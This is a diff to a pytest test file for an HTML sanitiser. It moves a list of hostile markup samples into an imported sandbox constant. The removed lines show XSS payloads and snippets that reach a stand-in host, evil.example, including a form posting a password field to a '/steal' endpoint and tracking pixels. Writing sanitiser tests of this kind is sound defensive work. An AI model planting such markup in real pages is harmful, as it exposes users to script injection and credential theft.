@@ -6,22 +6,12 @@ import re
 
 import pytest
 
+from sandbox.synthetic.documents import HOSTILE_NOTE_MARKUP
 from smartapp.documents.sanitise import clean_html
 
+# The sandbox's hostile note (each of its payloads), then what else a sanitiser must refuse.
 HOSTILE = [
-    "<script>alert('note')</script>",
-    '<img src=x onerror="alert(1)">',
-    '<img src="https://evil.example/pixel.png">',
-    '<link rel="stylesheet" href="https://evil.example/x.css">',
-    "<style>body{background:url(https://evil.example/bg.png)}</style>",
-    '<p style="background:url(https://evil.example/p.png)">styled</p>',
-    '<form action="https://evil.example/steal"><input name="pw"><button>Send</button></form>',
-    '<iframe src="https://evil.example/frame"></iframe>',
-    '<a href="javascript:alert(2)">click me</a>',
-    '<svg onload="alert(3)"></svg>',
-    '<object data="https://evil.example/o.swf"></object>',
-    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-    '<base href="https://evil.example/">',
+    *HOSTILE_NOTE_MARKUP,
     '<a href="/relative">relative</a>',
     '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
     '<div id="summary-root" class="x" onclick="x()">clobber</div>',
